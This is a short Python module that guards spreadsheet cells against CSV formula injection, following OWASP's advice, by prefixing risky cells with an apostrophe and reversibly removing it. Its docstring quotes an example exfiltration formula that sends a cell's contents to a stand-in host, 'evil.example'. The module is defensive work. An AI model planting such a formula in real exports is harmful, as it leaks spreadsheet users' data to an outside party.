"""Spreadsheet cells that would run as formulas, both ways (OWASP's advice on CSV injection).

A spreadsheet may run a cell that begins with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil.example/?x="&B3,"Click")`); OWASP adds a tab and a carriage return, and the
full-width `＝＋－＠` are read as the same. `guard` puts a `'` in front of such a cell, which makes it
text, and `unguard` takes it off again. A cell that already begins with quotes and then one of those
characters gets one quote more, so `unguard(guard(text)) == text` for every text.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _runs(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_STARTS)


def guard(text: str) -> str:
    """`text` safe to open in a spreadsheet: a `'` in front when it would run as a formula."""
    return "'" + text if _runs(text) else text


def unguard(text: str) -> str:
    """A cell as it was before `guard`."""
    return text[1:] if text.startswith("'") and _runs(text) else text
